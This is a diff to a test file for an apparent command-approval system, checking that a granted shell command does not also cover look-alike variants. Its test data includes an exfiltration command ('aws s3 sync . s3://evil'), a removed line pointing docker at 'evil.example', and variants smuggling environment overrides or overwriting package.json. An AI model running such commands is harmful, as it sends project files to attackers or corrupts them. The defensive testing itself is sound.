@@ -112,12 +112,6 @@ describe('A11: a grant overrides no deny, and covers no more than was shown', ()
       ],
     ],
     ['git log', 'git log -3', ['XDG_CONFIG_HOME=/tmp/e git log', 'PAGER=./x git log', 'git log > package.json']],
-    ['docker ps', 'docker ps -a', ['DOCKER_HOST=tcp://evil.example docker ps', 'DOCKER_CONTEXT=prod docker ps']],
-    [
-      'gh pr list',
-      'gh pr list --limit 5',
-      ['gh pr merge 1', 'gh pr close 1', 'gh pr', 'gh pr --help list', 'gh issue list'],
-    ],
     ['aws s3 ls', 'aws s3 ls s3://b', ['aws s3 sync . s3://evil', 'aws s3 rm s3://b/x', 'AWS_PROFILE=prod aws s3 ls']],
     [
       'npm run lint',
@@ -134,6 +128,14 @@ describe('A11: a grant overrides no deny, and covers no more than was shown', ()
       const ran: string[] = []
       for (const command of others) if ((await fate(world, shell(command))) !== 'held') ran.push(command)
       expect(ran).toEqual([])
+    },
+  )
+
+  it.each(['docker ps', 'gh pr list'])(
+    'no pattern is offered for `%s`, whose repeats would fail in the sandbox',
+    async (given) => {
+      world = await openWorld({ policy: 'version: 1\nrules:\n  - { id: ask, kind: execute, supervision: confirm }\n' })
+      await expect(grant(shell(given), 'pattern')).rejects.toThrow('no pattern grant is offered')
     },
   )
 
